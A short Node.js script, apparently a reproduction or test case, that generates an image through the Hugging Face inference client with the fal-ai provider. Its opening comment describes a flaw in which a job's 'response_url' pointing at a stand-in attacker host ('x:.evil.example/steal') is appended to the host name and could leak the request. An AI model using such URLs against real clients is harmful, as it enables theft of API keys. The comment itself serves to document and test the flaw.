// Should ask only fal about the job. The client appends a `response_url` like `x:.evil.example/steal` to the host's name.
import { InferenceClient } from '@huggingface/inference'

// The client's pauses do not keep Node.js running.
setInterval(Boolean, 1000)
const model = process.env.MODEL ?? 'acme/lantern'
const client = new InferenceClient(process.env.FAL_KEY)
console.log(await client.textToImage({ provider: 'fal-ai', model, inputs: 'A lighthouse' }))
